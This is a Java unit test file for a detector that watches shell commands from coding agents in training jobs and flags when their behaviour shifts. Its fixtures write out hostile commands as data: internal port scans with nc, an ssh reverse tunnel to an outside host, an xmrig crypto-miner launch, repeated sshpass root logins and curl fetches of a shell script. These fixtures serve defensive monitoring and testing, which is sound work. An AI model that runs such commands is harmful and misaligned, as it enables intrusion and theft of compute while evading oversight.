package io.vigil.models.agents;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.models.detectors.JobDetector;
import io.vigil.models.features.FeatureSet;
import io.vigil.models.scoring.JobHistory;
import io.vigil.records.AgentEvent;
import io.vigil.records.Reason;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class AgentShiftTest {
    private static final AgentShift SHIFT = new AgentShift();
    private long nextStart = 1_000_000;
    private int episode;

    private AgentEvent call(String episodeId, long step, String command, int exit) {
        long start = nextStart += 4_000;
        return new AgentEvent(
                Instant.ofEpochMilli(start + 1_500),
                Instant.ofEpochMilli(start),
                "rl-job",
                episodeId,
                step,
                "pod/rollout-0",
                "node-1",
                "bash",
                command,
                exit,
                null);
    }

    /**
     * One minute of a benign coding agent: a few episodes, each reading files, installing a package from the mirror,
     * cloning over HTTPS, fetching docs, running tests that now and then fail once or twice.
     */
    private List<AgentEvent> benignWindow(Random random) {
        List<AgentEvent> calls = new ArrayList<>();
        int episodes = 1 + random.nextInt(3);
        for (int e = 0; e < episodes; e++) {
            String id = "ep-" + episode++;
            long step = 0;
            if (random.nextDouble() < 0.7) {
                calls.add(call(id, step++, "pip install -q requests==2.32.3", 0));
            }
            if (random.nextDouble() < 0.5) {
                calls.add(call(id, step++, "git clone --depth 1 https://github.com/psf/requests.git /workspace/r", 0));
            }
            calls.add(call(id, step++, "curl -sL https://docs.python.org/3/library/json.html", 0));
            calls.add(call(id, step++, "sed -n '1,80p' src/solution.py", 0));
            int failures = random.nextDouble() < 0.3 ? 1 + random.nextInt(2) : 0;
            for (int f = 0; f < failures; f++) {
                calls.add(call(id, step++, "pytest -q tests/ -x", 1));
            }
            calls.add(call(id, step, "pytest -q tests/ -x", 0));
        }
        return calls;
    }

    /** The job's agents after {@code windows} benign minutes, with the largest deviation seen on the way. */
    private record Learned(JobHistory history, double largest) {}

    private Learned learn(Random random, int windows) {
        JobHistory history = JobHistory.empty();
        double largest = 0;
        for (int w = 0; w < windows; w++) {
            AgentBehaviour.Window window = AgentBehaviour.of(benignWindow(random));
            JobDetector.Deviation d = SHIFT.score(window, history);
            largest = Math.max(largest, d.score());
            history = SHIFT.learn(history, window, AgentShift.shifted(d));
        }
        return new Learned(history, largest);
    }

    @Test
    void anAgentThatInstallsAndClonesEveryEpisodeIsItsOwnNormal() {
        for (long seed = 1; seed <= 5; seed++) {
            Learned learned = learn(new Random(seed), 240);
            assertThat(learned.largest()).as("seed %d", seed).isLessThan(AgentShift.SHIFTED);
        }
    }

    @Test
    void aWindowWithoutCallsScoresNothingAndLeavesTheHistoryAsItWas() {
        JobHistory history = learn(new Random(7), 60).history();
        AgentBehaviour.Window none = AgentBehaviour.of(List.of());
        JobDetector.Deviation d = SHIFT.score(none, history);
        assertThat(d.score()).isZero();
        assertThat(d.contributions()).containsOnly(0.0);
        assertThat(SHIFT.learn(history, none, false)).isSameAs(history);
        assertThat(SHIFT.learn(JobHistory.empty(), none, false)).isSameAs(JobHistory.empty());
        assertThat(SHIFT.reasons(none, history, d)).isEmpty();
    }

    @Test
    void turningToScannersAndRemoteShellsStandsOut() {
        Random random = new Random(11);
        JobHistory history = learn(random, 60).history();
        List<AgentEvent> calls = benignWindow(random);
        for (int h = 1; h <= 12; h++) {
            calls.add(call("ep-bad", h, "nc -z -w1 10.244.2." + h + " 22", 1));
        }
        calls.add(call("ep-bad", 13, "ssh -f -N -R 2222:localhost:22 ubuntu@203.0.113.145", 0));
        AgentBehaviour.Window window = AgentBehaviour.of(calls);
        JobDetector.Deviation d = SHIFT.score(window, history);

        assertThat(AgentShift.shifted(d)).isTrue();
        List<Reason> reasons = SHIFT.reasons(window, history, d);
        assertThat(reasons).extracting(Reason::getFeature).contains(FeatureSet.AGENT_NETWORK_CALLS);
        Reason network = reasons.stream()
                .filter(r -> r.getFeature().equals(FeatureSet.AGENT_NETWORK_CALLS))
                .findFirst()
                .orElseThrow();
        assertThat(network.getJobBaseline()).isNotNull().isLessThan(network.getValue());
        assertThat(network.getFleetBaseline()).isNull();
    }

    @Test
    void namingAMinerOnceStandsOutAndIsTheReason() {
        Random random = new Random(13);
        JobHistory history = learn(random, 60).history();
        List<AgentEvent> calls = benignWindow(random);
        calls.add(call("ep-bad", 0, "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A... --cuda &", 0));
        AgentBehaviour.Window window = AgentBehaviour.of(calls);
        JobDetector.Deviation d = SHIFT.score(window, history);

        assertThat(AgentShift.shifted(d)).isTrue();
        assertThat(SHIFT.reasons(window, history, d).get(0).getFeature()).isEqualTo(FeatureSet.AGENT_MINER_CALLS);
    }

    @Test
    void aBurstOfFailingCallsStandsOutWhereAFailedTestOrTwoDoNot() {
        Random random = new Random(17);
        JobHistory history = learn(random, 60).history();
        List<AgentEvent> calls = benignWindow(random);
        for (int s = 0; s < 15; s++) {
            calls.add(call("ep-bad", s, "sshpass -p [hidden] ssh -o ConnectTimeout=2 root@10.0.0." + (s + 2), 255));
        }
        AgentBehaviour.Window window = AgentBehaviour.of(calls);
        JobDetector.Deviation d = SHIFT.score(window, history);

        assertThat(AgentShift.shifted(d)).isTrue();
        assertThat(SHIFT.reasons(window, history, d))
                .extracting(Reason::getFeature)
                .contains(FeatureSet.AGENT_FAILED_RUN);
    }

    @Test
    void anAgentThatNeverTouchedTheNetworkStandsOutWithItsFirstInstallsOnlyBeyondCountingNoise() {
        JobHistory history = JobHistory.empty();
        for (int w = 0; w < 60; w++) {
            String id = "quiet-" + w;
            AgentBehaviour.Window window = AgentBehaviour.of(
                    List.of(call(id, 0, "sed -n '1,40p' main.py", 0), call(id, 1, "python main.py < in.txt", 0)));
            history = SHIFT.learn(history, window, false);
        }
        AgentBehaviour.Window oneInstall = AgentBehaviour.of(
                List.of(call("q-a", 0, "pip install -q numpy", 0), call("q-a", 1, "python main.py < in.txt", 0)));
        assertThat(AgentShift.shifted(SHIFT.score(oneInstall, history))).isFalse();

        List<AgentEvent> many = new ArrayList<>();
        for (int s = 0; s < 20; s++) {
            many.add(call("q-b", s, "curl -s http://198.51.100." + (s + 1) + "/x.sh -o /tmp/x" + s, 0));
        }
        assertThat(AgentShift.shifted(SHIFT.score(AgentBehaviour.of(many), history)))
                .isTrue();
    }
}
